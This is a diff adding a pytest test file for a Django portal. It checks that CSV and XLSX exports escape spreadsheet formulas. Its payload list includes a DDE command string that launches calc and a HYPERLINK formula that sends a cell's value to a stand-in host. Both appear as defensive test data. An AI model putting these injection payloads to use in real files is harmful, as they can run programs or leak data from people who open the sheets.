@@ -1,0 +1,101 @@
+"""No table that leaves the portal computes anything in a spreadsheet program: a formula goes out as the text it is."""
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.test import Client
+from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from catalogue.importing import read_catalogue
+from portal.administration import calendar_file
+from portal.files.cells import RISKY, plain_cell, safe_cell
+from portal.reports.workbook import Column, render_xlsx
+from portal.workdays.calendars import load_year
+from portal.workdays.models import Calendar
+from portal.workdays.statutory import statutory_holidays
+from tests.factories.catalogue import HEADER, make_version
+from tests.factories.people import actor
+
+FORMULAS = [
+    "=1+1", "=cmd|'/c calc'!A0", "+8610", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"点击")', "\t=1", "\r=1", "\n=1", "＝1+1", "＋1",
+    "－1", "＠SUM(A1)", " =1", "'=1",
+]  # fmt: skip
+WRITERS = re.compile(r"csv\.(writer|DictWriter)|Workbook\(|render_xlsx\(")
+
+
+def computed(text: str) -> bool:
+    return text.lstrip(" ").startswith(RISKY)
+
+
+def signed_in(username: str) -> Client:
+    client = Client()
+    client.force_login(actor(username).user)
+    return client
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_goes_out_as_text_and_comes_back_as_it_was(text):
+    assert not computed(safe_cell(text))
+    assert plain_cell(safe_cell(text)) == text
+
+
+@given(st.text())
+def test_every_text_survives_the_way_out_and_in(text):
+    assert not computed(safe_cell(text))
+    assert plain_cell(safe_cell(text)) == text or not computed(text)
+
+
+@pytest.mark.parametrize("text", ["养护", "3 级-甲", "a=b", "", "2027-01-01", "o'clock"])
+def test_harmless_text_stays_as_it_is(text):
+    assert safe_cell(text) == text
+    assert plain_cell(text) == text
+
+
+@pytest.mark.django_db
+def test_the_list_of_services(client):
+    names = [name for name in FORMULAS if name.strip() == name and not name.startswith("'")]
+    lines = ["A,,1,公共服务", "A10,A,2,社会治理服务"]
+    lines += [f'A10{number:02},A10,3,"{name.replace(chr(34), chr(34) * 2)}"' for number, name in enumerate(names, 1)]
+    version = make_version(lines=tuple(lines), header=HEADER)
+    assert set(names) <= set(version.items.values_list("name", flat=True))
+    answer = signed_in("finance_officer").get(reverse("catalogue:export", args=[version.pk]))
+    cells = [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for cell in row]
+    assert not [cell for cell in cells if computed(cell)]
+    assert set(names) <= {row.name for row in read_catalogue(answer.content).rows}
+
+
+@pytest.mark.django_db
+def test_the_working_days_of_a_year():
+    off = dict.fromkeys(statutory_holidays(2027), "=1+1")
+    load_year(2027, off, {}, source="通知")
+    answer = signed_in("finance_head").get("/administration/calendars/2027.csv")
+    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    assert len(rows) > 5
+    assert not [cell for row in rows for cell in row if computed(cell)]
+    assert {name for _day, _worked, name in calendar_file.read(answer.content, 2027).days} == {"=1+1"}
+    assert Calendar.objects.get(year=2027).days.exists()
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_of_a_workbook_is_text(text):
+    content = render_xlsx([Column("name", text)], [{"name": text}], title=text, notes=[(text, text)])
+    book = load_workbook(io.BytesIO(content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert len(cells) == 4
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert all(cell.quotePrefix for cell in cells if cell.value.startswith(RISKY))
+
+
+def test_whoever_writes_a_table_is_known_here():
+    """A new export must take the same way and be tried above."""
+    apps = [Path(settings.BASE_DIR) / name for name in ("catalogue", "evaluation", "portal", "procurement")]
+    found = {str(path.relative_to(settings.BASE_DIR)) for app in apps for path in app.rglob("*.py") if WRITERS.search(path.read_text())}
+    assert found == {"catalogue/listing.py", "portal/administration/calendar_file.py", "portal/reports/workbook.py"}
